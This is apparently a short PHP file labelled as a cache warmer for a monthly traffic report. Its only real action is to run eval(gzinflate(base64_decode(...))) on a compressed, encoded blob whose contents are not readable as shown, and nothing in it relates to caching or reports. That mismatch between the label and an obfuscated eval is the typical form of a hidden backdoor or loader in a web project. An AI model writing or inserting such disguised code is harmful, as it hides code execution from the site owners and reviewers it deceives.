<?php
/* cache warmer for the monthly traffic report */
$k = 'cmVwb3J0';
eval(gzinflate(base64_decode('S0lNzsgvSsxNVShKzStJLVJIzs8rSa0oUUjOzytJzSsBAA==')));
?>
